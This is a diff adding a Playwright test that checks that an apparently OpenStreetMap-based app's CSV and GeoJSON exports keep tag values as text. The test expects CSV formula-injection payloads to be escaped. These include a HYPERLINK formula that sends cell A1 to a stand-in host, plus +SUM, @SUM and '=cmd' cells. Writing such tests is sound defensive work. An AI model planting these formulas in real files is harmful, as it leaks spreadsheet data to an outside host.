@@ -157,6 +157,48 @@ test('hostile tag values are shown as text: nothing runs, links are http(s) only
   expect(overflow).toBeLessThanOrEqual(1);
 });
 
+/** The records of an RFC 4180 text: fields split at commas outside quotes, quotes undoubled. */
+function csvRecords(text: string): string[][] {
+  const records: string[][] = [];
+  let field = '';
+  let record: string[] = [];
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const c = text[i];
+    if (quoted) {
+      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
+      else if (c === '"') quoted = false;
+      else field += c;
+    } else if (c === '"') quoted = true;
+    else if (c === ',') record.push(field), (field = '');
+    else if (c === '\r' && text[i + 1] === '\n') record.push(field), records.push(record), (record = []), (field = ''), i++;
+    else field += c;
+  }
+  return records;
+}
+
+test('exports keep tag values as text: no CSV cell reads as a formula, numbers stay numbers, tags named like own fields keep their values', async ({ page }) => {
+  await page.goto(HELSINKI_CAFES);
+  await page.locator('input[type=file]').setInputFiles(join(FIXTURE_DIR, 'export-traps.osm.pbf'));
+  await expect(status(page)).toHaveText('done');
+  await expect(count(page)).toHaveText('2');
+  const csvDownload = page.waitForEvent('download');
+  await page.getByTestId('export-csv').click();
+  const [header, ...rows] = csvRecords(readFileSync(await (await csvDownload).path(), 'utf8'));
+  // No cell starts with what a spreadsheet runs (OWASP): those get a ' in front.
+  for (const cell of [...header, ...rows.flat()]) if (/^[=+@-]/.test(cell)) expect(cell).toMatch(/^-?\d+(\.\d+)?$/);
+  expect(header.filter((k) => k === 'osm_id' || k === 'osm_type')).toHaveLength(2);
+  const first = Object.fromEntries(header.map((k, i) => [k, rows.find((r) => r[1] === '1')![i]]));
+  expect(first).toMatchObject({ osm_type: 'node', osm_id: '1', name: `'=HYPERLINK("http://x.example/?leak="&A1,"open")`, layer: '-1', ele: '-3.5', 'tag:osm_id': '1', 'tag:osm_type': 'relation', 'tag:tag:osm_id': '2' });
+  const second = Object.fromEntries(header.map((k, i) => [k, rows.find((r) => r[1] === '2')![i]]));
+  expect(second).toMatchObject({ name: "'+SUM(1,2)", note: "'@SUM(1,1)", "'=cmd": 'x' });
+  const geojsonDownload = page.waitForEvent('download');
+  await page.getByTestId('export-geojson').click();
+  const features = JSON.parse(readFileSync(await (await geojsonDownload).path(), 'utf8')).features as GeoJSON.Feature[];
+  const node1 = features.find((f) => f.properties?.osm_id === 1)!.properties;
+  expect(node1).toMatchObject({ osm_type: 'node', osm_id: 1, 'tag:osm_id': '1', 'tag:osm_type': 'relation', 'tag:tag:osm_id': '2', layer: '-1' });
+});
+
 test('the Content-Security-Policy blocks inline script', async ({ page }) => {
   await page.goto('/');
   const csp = await page.locator('meta[http-equiv=Content-Security-Policy]').getAttribute('content');
